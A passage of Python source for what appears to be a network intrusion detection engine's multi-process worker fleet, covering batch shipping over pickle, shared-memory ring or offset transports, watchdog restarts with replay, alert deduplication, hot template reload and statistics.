        shard = self._shard_of_fields(*fields)
        runs = self._batches[shard]
        if runs and runs[-1][0] + runs[-1][2] == self._seq:
            runs[-1][2] += 1
        else:
            runs.append([self._seq, meta.offset, 1])
        self._batch_counts[shard] += 1
        self._seq += 1
        self._dispatched.inc()
        if self._batch_counts[shard] >= self.batch_size:
            self._ship(shard)
        self._collect(blocking=False)
        self._maybe_checkpoint()

    # -- shipping ------------------------------------------------------------

    def _ship(self, shard: int) -> None:
        if self.transport == "offset":
            self._ship_extents(shard)
            return
        batch, self._batches[shard] = self._batches[shard], []
        if not batch:
            return
        t0 = time.perf_counter()
        key = batch[0][0]  # first dispatch seq: unique, monotonic
        track = (self.watchdog_timeout is not None
                 or self.checkpoints is not None)
        if track:
            self._replay[shard].append((key, batch))
        self._ship_bytes.inc(sum(len(raw) for _seq, raw, _ts in batch))
        fn, payload = _fleet_process_batch, batch
        retry = None
        if self.transport == "shm":
            pool_before = self._pools[shard]
            slot = self._write_ring(shard, key, batch)
            if self._pools[shard] is not pool_before and track:
                # The blocking drain tripped the watchdog: the shard was
                # restarted and the replay log — this batch included —
                # already resubmitted on the fresh pool (pickle path).
                if slot is not None:
                    self._rings[shard].retire(key)
                self._finish_ship(t0)
                return
            if slot is not None:
                fn, payload = _fleet_process_shm, slot
                retry = (_fleet_process_batch, batch)  # ring dies w/ pool
            else:
                self._ring_fallback.inc()
        self._submit_batch(shard, key, fn, payload, track, retry=retry)
        self._finish_ship(t0)

    def _ship_extents(self, shard: int) -> None:
        runs, self._batches[shard] = self._batches[shard], []
        self._batch_counts[shard] = 0
        if not runs:
            return
        t0 = time.perf_counter()
        key = runs[0][0]
        job = (self._capture_path, [tuple(run) for run in runs])
        track = (self.watchdog_timeout is not None
                 or self.checkpoints is not None)
        if track:
            self._replay[shard].append((key, job))
        self._ship_bytes.inc(len(runs) * _EXTENT_DESCRIPTOR_BYTES)
        self._submit_batch(shard, key, _fleet_process_extents, job, track)
        self._finish_ship(t0)

    def _finish_ship(self, t0: float) -> None:
        self._batches_sent += 1
        self._batch_counter.inc()
        self._ship_seconds.observe(time.perf_counter() - t0)

    def _write_ring(self, shard: int, key, batch: list):
        """The shm fallback ladder, every rung counted: try the ring;
        full → blocking drain of this shard's oldest in-flight batches
        (their spans retire as they fold) and retry; still no room (a
        batch bigger than the ring, or a watchdog restart mid-drain) →
        ``None``, and the caller ships through the pickle path."""
        ring = self._rings[shard]
        slot = ring.try_write(key, batch)
        if slot is not None:
            return slot
        self._ring_full.inc()
        while slot is None and self._futures[shard]:
            pool_before = self._pools[shard]
            self._fold_one(shard, blocking=True)
            slot = self._rings[shard].try_write(key, batch)
            if self._pools[shard] is not pool_before:
                break  # watchdog fired mid-drain; _ship decides
        return slot

    def _submit_batch(self, shard: int, key, fn, payload, track: bool,
                      retry: tuple | None = None) -> None:
        try:
            future = self._pools[shard].submit(fn, payload)
        except BrokenProcessPool:
            # The pool died before we could even submit; the restart
            # resubmits the whole replay window (this batch included).
            self._restart_shard(shard)
            if not track:
                # No replay log to lean on — resubmit directly.  A ring
                # descriptor died with the reset ring; use the retry
                # (pickle) form instead.
                rfn, rpayload = retry if retry is not None else (fn, payload)
                future = self._pools[shard].submit(rfn, rpayload)
                self._futures[shard].append((key, future))
        else:
            self._futures[shard].append((key, future))

    # -- aggregation ---------------------------------------------------------

    def _collect(self, blocking: bool) -> None:
        """Fold completed batch results (per-shard FIFO) into the
        aggregation buffer and the central registry.  When blocking with
        a watchdog, a shard that misses its deadline (or whose pool
        broke) is killed, respawned from the last barrier snapshot, and
        its post-barrier batches are replayed; batches that had already
        been folded re-run for worker state only (their alerts are
        dropped by the batch-key fold filter)."""
        for shard in range(self.workers):
            while self._futures[shard] and (
                    blocking or self._futures[shard][0][1].done()):
                self._fold_one(shard, blocking)

    def _fold_one(self, shard: int, blocking: bool) -> None:
        """Fold the head future of one shard (FIFO).  Folding retires
        the batch's ring span — the only recycling point, which is what
        makes ring reads safe without locks: bytes live strictly longer
        than the descriptor that names them."""
        futures = self._futures[shard]
        if not futures:
            return
        key, future = futures[0]
        try:
            if blocking and self.watchdog_timeout is not None:
                alerts, delta = future.result(timeout=self.watchdog_timeout)
            else:
                alerts, delta = future.result()
        except (FutureTimeoutError, BrokenProcessPool):
            self._restart_shard(shard)
            return
        futures.popleft()
        ring = self._rings[shard]
        if ring is not None:
            ring.retire(key)
        self.registry.merge_delta(delta)
        self._deltas_merged += 1
        if key in self._folded:
            # replayed batch: worker state rebuilt, alerts already
            # aggregated before the restart
            self._deduped_counter.inc(len(alerts))
            return
        self._folded.add(key)
        self._collected.extend(alerts)

    def _restart_shard(self, shard: int) -> None:
        """Watchdog kill path: terminate and reap the shard's worker,
        reset its ring (voiding every live span and bumping the
        generation — stale descriptors must fail loud, not read recycled
        bytes), respawn the pool rehydrated from the last barrier
        snapshot, and resubmit every work unit shipped since that
        barrier from the raw replay log."""
        self._watchdog_restarts.inc()
        pool = self._pools[shard]
        procs = list(getattr(pool, "_processes", {}).values())
        for proc in procs:
            proc.terminate()
        for proc in procs:
            proc.join(timeout=10)
        pool.shutdown(wait=False, cancel_futures=True)
        ring = self._rings[shard]
        if ring is not None:
            ring.reset()
        self._pools[shard] = ProcessPoolExecutor(
            max_workers=1,
            initializer=_init_fleet_worker,
            initargs=(self.template_set, self.nids_options,
                      self._shard_states[shard], self._ring_name(shard)),
        )
        replay_fn = (_fleet_process_extents if self.transport == "offset"
                     else _fleet_process_batch)
        self._futures[shard] = deque(
            (key, self._pools[shard].submit(replay_fn, payload))
            for key, payload in self._replay[shard])

    def flush(self) -> list[Alert]:
        """Ship partial batches, drain every worker, finalize stream
        tails, and merge: packet alerts sorted by dispatch seq (stable —
        one packet's alerts keep pipeline order), then each worker's
        flush-time alerts in worker order."""
        if not self._pools:
            return []
        for shard in range(self.workers):
            self._ship(shard)
        self._collect(blocking=True)
        tails: list[list[Alert]] = []
        for shard in range(self.workers):
            alerts, delta = self._submit_supervised(
                shard, _fleet_flush_worker)
            tails.append(alerts)
            self.registry.merge_delta(delta)
            self._deltas_merged += 1
        window = sorted(self._collected, key=lambda pair: pair[0])
        self._collected = []
        before = len(self.alerts)
        self._journal_and_emit(window)
        if self.journal is not None:
            self.journal.sync()
        # Flush-time stream tails are emitted once, by the incarnation
        # that actually finishes the capture; they carry no dispatch seq
        # and are not journaled (a crash *during* final flush re-runs
        # the flush after resume, regenerating them from the restored
        # stream state).
        self.alerts.extend(tail_alert for tail in tails
                           for tail_alert in tail)
        # Everything shipped so far is folded and emitted; the replay
        # window (bounded otherwise only by checkpoint barriers) resets.
        self._replay = [[] for _ in range(self.workers)]
        self._folded.clear()
        return self.alerts[before:]

    # -- hot template reload -------------------------------------------------

    def reload_template_set(self, template_set: str) -> bool:
        """Hot-swap the fleet's template library, same digest-keyed
        semantics as the single-sensor engines: in-flight batches drain
        under the old library, then every worker is respawned with the
        new set in its initargs."""
        from ..core.library import library_digest

        new = library_digest(resolve_template_set(template_set))
        old = library_digest(resolve_template_set(self.template_set))
        if new == old:
            return False
        self.flush()
        self.template_set = template_set
        # Snapshots taken under the old library cannot rehydrate workers
        # running the new one (restore_state refuses digest mismatches).
        self._shard_states = [None] * self.workers
        for shard, pool in enumerate(self._pools):
            # wait=True: the old worker must be reaped, not orphaned —
            # flush() already drained its queue, so there is no work to
            # wait on, only process teardown.
            pool.shutdown(wait=True, cancel_futures=True)
            self._pools[shard] = ProcessPoolExecutor(
                max_workers=1,
                initializer=_init_fleet_worker,
                initargs=(template_set, self.nids_options, None,
                          self._ring_name(shard)),
            )
        return True

    # -- reporting -----------------------------------------------------------

    @property
    def stats(self) -> FleetStats:
        return FleetStats(
            workers=self.workers,
            dispatched=self._seq,
            batches=self._batches_sent,
            alerts=len(self.alerts),
            deltas_merged=self._deltas_merged,
            checkpoints=(self.checkpoints.saves
                         if self.checkpoints is not None else 0),
            replayed=int(self._replayed_counter.value),
            deduped=int(self._deduped_counter.value),
            watchdog_restarts=int(self._watchdog_restarts.value),
            transport=self.transport,
            ship_bytes=int(self._ship_bytes.value),
            ring_full=int(self._ring_full.value),
            ring_fallback=int(self._ring_fallback.value),
        )
